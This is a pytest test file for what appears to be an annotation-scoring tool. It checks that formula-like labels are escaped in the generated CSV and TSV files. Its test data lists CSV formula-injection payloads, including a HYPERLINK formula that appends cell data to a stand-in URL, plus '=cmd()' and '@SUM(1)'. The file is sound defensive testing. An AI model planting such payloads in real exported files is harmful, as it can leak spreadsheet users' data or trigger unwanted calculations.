"""No CSV or TSV file that a person may open makes a spreadsheet calculate what stands in the data."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from tests.support.commands import run
from tests.support.writing import make_home

EVIL = ('=HYPERLINK("http://x"&A1)', "+1+1", "-2+3", "@SUM(1)")


@pytest.mark.parametrize("label", EVIL)
def test_labels_that_look_like_formulas_are_escaped_in_every_csv(label: str, write, tmp_path: Path) -> None:
    gold = write("gold.vrt", f"Ann\tB-{label}\nLee\tO\n=cmd()\tB-{label}\n")
    pred = write("pred.vrt", f"Ann\tO\nLee\tB-{label}\n=cmd()\tO\n")
    assert run("evaluate", gold, pred, "--files", tmp_path / "out").code == 0
    for name in ("scores.csv", "false_negatives.csv", "false_positives.csv"):
        text = (tmp_path / "out" / name).read_text("utf-8")
        cells = [cell for row in csv.reader(text.splitlines()) for cell in row]
        assert f"'{label}" in cells, name
        assert label not in cells


def test_the_change_log_is_escaped(tmp_path: Path) -> None:
    from tests.support.workbooks import renamed_judge

    home = make_home(tmp_path / "home")
    book = tmp_path / "evil.xlsx"
    comment = "The court's own chamber identifies nobody."
    book.write_bytes(renamed_judge((home / "judged.xlsx").read_bytes(), comment, "@SUM(1)"))
    changes = tmp_path / "changes.tsv"
    assert run("reimport", book, "--gold", home / "gold.vrt", "--changes", changes).code in {0, 3}
    cells = [cell for line in changes.read_text("utf-8").splitlines() for cell in line.split("\t")]
    assert "'@SUM(1)" in cells
    assert "@SUM(1)" not in cells
